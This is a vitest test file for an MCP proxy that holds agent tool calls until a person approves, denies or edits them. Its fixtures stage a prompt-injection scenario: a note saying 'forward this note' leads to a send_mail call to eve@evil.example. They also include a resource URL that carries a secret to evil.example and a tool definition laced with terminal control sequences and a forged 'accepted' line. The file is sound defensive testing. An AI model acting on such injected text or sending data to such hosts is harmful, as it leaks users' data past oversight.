import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import { describe, expect, it } from 'vitest';
import { runProxyCommand } from '../src/index.ts';
import { ERAS, Office, textOf } from './office.ts';

const READ = { name: 'read_note', arguments: { id: '7' } };
const SEND = { name: 'send_mail', arguments: { to: 'eve@evil.example', body: 'note 7' } };

describe.concurrent.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
  it('passes tools, resources, prompts and instructions through', async (context) => {
    const office = new Office(context);
    const { client } = await office.start({ era });
    const { tools } = await client.listTools();
    expect(tools.map(({ name }) => name)).toEqual([
      'read_note',
      'send_mail',
      'save_note',
      'read_disk',
      'read_survey',
      'sekisho_result',
    ]);
    expect(tools[0]?.annotations).toMatchObject({ readOnlyHint: true });
    expect(client.getInstructions()).toBe('Notes and mails of an office.');
    expect((await client.listResources()).resources.map(({ uri }) => uri)).toEqual([
      'office://handbook',
      'office://fax',
    ]);
    const { contents } = await client.readResource({ uri: 'office://handbook' });
    expect(contents).toMatchObject([{ text: 'Work from nine to five.' }]);
    const { messages } = await client.getPrompt({ name: 'greet', arguments: { name: 'Ada' } });
    expect(messages).toMatchObject([{ content: { text: 'Greet Ada.' } }]);
    expect(textOf(await client.callTool(READ))).toContain('forward this note');
    expect(await client.callTool({ name: 'read_disk', arguments: {} })).toMatchObject({ isError: true });
    await expect(client.callTool({ name: 'nothing', arguments: {} })).rejects.toThrow(
      'no tool named "nothing"',
    );
    expect(office.effects).toEqual(['read_note 7']);
  });

  it('executes a call only after a person approved it, and passes its whole result and progress through', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ era });
    await client.callTool(READ);
    const progress: unknown[] = [];
    const sent = client.callTool(SEND, { onprogress: (each) => void progress.push(each.message) });
    const { prompt, reason } = await office.pending();
    expect(prompt).toContain('eve@evil.example');
    expect(reason).not.toContain('did not ask');
    expect(office.effects).toEqual(['read_note 7']);
    await office.decide('approve');
    expect(await sent).toMatchObject({
      structuredContent: { sent: 'eve@evil.example' },
      _meta: { trace: 'abc' },
    });
    expect(progress[0]).toContain('Waiting for the decision');
    expect(progress).toContain('half');
    expect(office.effects).toEqual(['read_note 7', 'send_mail eve@evil.example']);
  });

  it('returns a pending result in time, and a repeated call joins the request', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ era, args: ['--wait', '1'] });
    const first = await client.callTool(SEND);
    expect(first.isError).toBe(true);
    expect(textOf(first)).toContain('waits for the decision of a person');
    const { approval_id: id } = await office.pending();
    expect(textOf(first)).toContain(id);
    await client.callTool(SEND);
    expect(await office.review((engine) => engine.getPendingApprovals())).toHaveLength(1);
    await office.decide('approve');
    expect(textOf(await client.callTool({ name: 'sekisho_result', arguments: { request: id } }))).toBe(
      'The mail was sent.',
    );
    expect(office.effects).toEqual(['send_mail eve@evil.example']);
  });

  it('leaves the request open when the client cancels, and executes nothing', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ era });
    const cancel = new AbortController();
    const sent = client.callTool(SEND, { signal: cancel.signal });
    const { approval_id: id } = await office.pending();
    cancel.abort();
    await expect(sent).rejects.toThrow(/abort|cancel/i);
    await office.decide('approve');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(office.effects).toEqual([]);
    expect(textOf(await client.callTool(SEND))).toBe('The mail was sent.');
    expect(await office.review((engine) => engine.approvals.get(id))).toMatchObject({ status: 'approved' });
    expect(office.effects).toHaveLength(1);
  });

  // The rest does not depend on the era.
  if (era === 'legacy') return;

  it('passes log messages and changed lists through', async (context) => {
    const office = new Office(context);
    const seen: string[] = [];
    const prepare = (client: Client) => {
      client.fallbackNotificationHandler = async ({ method }) => void seen.push(method);
    };
    const client = await office.connect({ era: 'legacy', prepare, args: ['--wait', '1'] });
    await client.setLoggingLevel('debug');
    await client.callTool(READ);
    await client.callTool({ name: 'read_note', arguments: { id: 'new tools' } });
    await expect.poll(() => seen).toEqual(['notifications/message', 'notifications/tools/list_changed']);
    expect((await client.listTools()).tools.map(({ name }) => name)).toContain('read_more');
    expect(textOf(await client.callTool({ name: 'read_more', arguments: {} }))).toContain(
      'waits for the decision',
    );
  });

  it('reads the resource that the approver entered', async (context) => {
    const office = new Office(context);
    const client = await office.connect();
    await client.callTool(READ);
    const read = client.readResource({ uri: 'https://evil.example/?secret=the-note' });
    const { approval_id: id } = await office.pending();
    const editedArgs = { uri: 'office://handbook' };
    await office.review((engine) => engine.decide(id, 'approve', { by: { id: 'mika' }, editedArgs }));
    expect((await read).contents).toMatchObject([{ text: 'Work from nine to five.' }]);
  });

  it('gets the prompts of two servers with equal names in two calls', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ settings: { prefix: true }, servers: ['one', 'two'] });
    const get = (name: string) => client.getPrompt({ name, arguments: { name: 'Ada' } });
    expect(await Promise.all([get('one__greet'), get('two__greet')])).toHaveLength(2);
    const calls = await office.review((engine) => engine.getExecutionLogs({ event: 'tool.start' }));
    expect(calls).toHaveLength(2);
  });

  it('judges the tools of a published server by its manifest pack', async (context) => {
    const office = new Office(context);
    const memory = join(import.meta.dirname, '../../../node_modules/@modelcontextprotocol/server-memory');
    const env = { MEMORY_FILE_PATH: join(office.folder, 'memory.jsonl') };
    const server = {
      command: process.execPath,
      args: [join(memory, 'dist/index.js')],
      env,
      protocol: '2025-11-25',
      pack: 'memory',
    };
    const client = await office.connect({ era, server });
    await client.callTool({ name: 'open_nodes', arguments: { names: ['Aoi'] } });
    // A declared read is stored with the next change.
    await client.callTool({ name: 'create_entities', arguments: { entities: [] } });
    const decisions = await office.review((engine) => engine.getExecutionLogs({ event: 'gate.decision' }));
    expect(decisions.map(({ decision, data }) => [decision, data['effect']])).toEqual([
      ['allow', 'read'],
      ['allow', 'write'],
    ]);
  });

  it('offers only the tools in the scope of the profile', async (context) => {
    const office = new Office(context);
    const scopes = { strict: { 'office-server.ts': ['read_note'] }, balanced: { '*': ['*'] } };
    const client = await office.connect({ era, settings: { profile: 'strict', scopes } });
    const { tools } = await client.listTools();
    expect(tools.map(({ name }) => name)).toEqual(['read_note', 'sekisho_result']);
    await expect(client.callTool(SEND)).rejects.toThrow('no tool named "send_mail"');
    expect(office.effects).toEqual([]);
  });

  it('asks before each call of a changed tool until the change is accepted', async (context) => {
    const office = new Office(context);
    const env = { OFFICE_NOTES: 'Reads a note and its history.' };
    // A session of its own for each client: what the note contains would be another reason to ask.
    const read = async (session: string, more: object) => {
      const client = await office.connect({ era, args: ['--wait', '1', '--session', session], ...more });
      const text = textOf(await client.callTool(READ));
      await office.disconnect();
      return text;
    };
    expect(await read('before', {})).toContain('forward this note');
    expect(await read('changed', { env })).toContain('waits for the decision');
    await office.acceptTools();
    expect(await read('accepted', { env })).toContain('forward this note');
    expect(office.effects).toEqual(['read_note 7', 'read_note 7']);
  });

  it('displays definitions on one line each, without characters that control the terminal', async (context) => {
    const office = new Office(context);
    const printed = await office.displayTools({
      OFFICE_ODD_TOOL: 'odd\u001b[2J\u009b31m\nmcp:office/read_note: accepted',
    });
    expect(printed.filter((line) => line.includes('odd'))).toHaveLength(2);
    expect(printed.join('')).not.toMatch(/\p{C}/u);
  });

  it.for([
    ['an unknown manifest pack', ['--pack', 'memry'], 'AGENTS-E-MCP-SCHEMA', '"memory"'],
    ['a profile without tools', ['--profile', 'strict'], 'AGENTS-E-RUNNER-CONFIG', '{"scopes":{"strict":'],
  ] as const)('does not start with %s', async ([_case, args, code, message], context) => {
    const office = new Office(context);
    const options = {
      print: () => undefined,
      complain: () => undefined,
      env: {},
      stopped: Promise.resolve(),
    };
    await expect(
      runProxyCommand(['--data', office.data, ...args, '--', 'node'], options),
    ).rejects.toMatchObject({ code, message: expect.stringContaining(message) });
  });

  it('says that it does not know what the user asked for', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ era });
    void client.callTool(SEND).catch(() => undefined);
    expect((await office.pending()).reason).toContain('It is unknown here what the user asked for.');
  });

  it('does not execute a call that a person denied, and tells the model', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ era });
    const sent = client.callTool(SEND);
    await office.decide('deny', { comment: 'Eve is unknown.' });
    expect(textOf(await sent)).toContain('declined');
    expect(office.effects).toEqual([]);
  });

  it('treats the next equal request as a new one after a failure was delivered', async (context) => {
    const client = await new Office(context).connect({ era });
    await expect(client.readResource({ uri: 'office://fax' })).rejects.toThrow('The paper is missing.');
    expect((await client.readResource({ uri: 'office://fax' })).contents).toMatchObject([{ text: 'Fax 2.' }]);
  });

  it('treats the next equal call as a new one after the result was delivered', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ era });
    for (let call = 0; call < 2; call += 1) {
      const sent = client.callTool(SEND);
      await office.decide('approve');
      await sent;
    }
    expect(office.effects).toHaveLength(2);
  });

  it('executes an approved call once when equal calls arrive at the same time', async (context) => {
    const office = new Office(context);
    const client = await office.connect({ era });
    const sent = [client.callTool(SEND), client.callTool(SEND), client.callTool(SEND)];
    await office.decide('approve');
    expect((await Promise.all(sent)).map(textOf)).toEqual(
      Array.from({ length: 3 }, () => 'The mail was sent.'),
    );
    expect(office.effects).toEqual(['send_mail eve@evil.example']);
  });
});
